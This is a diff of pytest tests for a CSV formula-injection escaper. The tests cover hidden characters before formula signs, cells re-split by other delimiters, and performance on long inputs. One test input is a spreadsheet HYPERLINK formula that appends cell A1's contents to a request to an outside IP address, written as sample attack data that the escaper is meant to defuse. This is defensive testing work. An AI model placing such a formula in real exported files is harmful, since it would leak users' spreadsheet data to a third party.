@@ -6,6 +6,7 @@ from io import StringIO
 import pytest
 
 from portal.lib.csv_safe import BOM, escape_formula, lines
+from tests.work import counted
 
 
 @pytest.mark.parametrize(
@@ -15,7 +16,47 @@ def test_what_would_be_a_formula_gets_an_apostrophe(typed):
     assert escape_formula(typed) == f"'{typed}"
 
 
-@pytest.mark.parametrize("typed", ["Olena Example", "O'Brien", "a=b", "1-2", "", "'x", 7, -7, None])
+@pytest.mark.parametrize(
+    "blank",
+    [
+        "\u00a0",
+        "\ufeff",
+        "\u200b",
+        "\u2003",
+        "\u202e",
+        "\u2060",
+        "\u3164",
+        "\x00",
+        "\x0b",
+        '"',
+        "\u2800" * 90,
+        "\U000e0020",
+    ],
+)
+@pytest.mark.parametrize("sign", "=+-@＝＠")
+def test_what_nobody_sees_before_it_hides_no_formula(blank, sign):
+    assert escape_formula(f"{blank}{sign}1") == f"'{blank}{sign}1"
+    assert escape_formula(f"Olena;{blank}{sign}1") == f"Olena;{blank}'{sign}1"
+
+
+@pytest.mark.parametrize("split", [";", "; ", "|", "\t", "\n", "\r\n", ';"', ";;;", "; \ufeff"])
+def test_a_cell_that_is_split_again_holds_no_formula(split):
+    """Opened with semicolons between its columns, a file of ours falls apart in other places."""
+    typed = f'Olena{split}=HYPERLINK("http://198.51.100.9/?x="&A1,"open")'
+    escaped = escape_formula(typed)
+    assert escaped == typed.replace(f"{split}=", f"{split}'=", 1)
+    for separator in ";|\t":
+        for row in csv.reader(StringIO("".join(list(lines([[typed, typed]]))[1:])), delimiter=separator):
+            assert not any(cell.strip('"').lstrip().startswith(("=", "+", "-", "@")) for cell in row)
+
+
+def test_a_long_run_of_blanks_is_looked_at_once(monkeypatch):
+    with counted(monkeypatch) as work:
+        assert escape_formula("a" + ";\t" * 500_000) == "a" + ";\t" * 500_000
+    assert work.calls < 100
+
+
+@pytest.mark.parametrize("typed", ["Olena", "O'Brien", "a=b", "1-2", "5 kg, -2 kg", "a - b; c", "", "'x", 7, None])
 def test_everything_else_stays_as_it_is(typed):
     assert escape_formula(typed) == typed
 
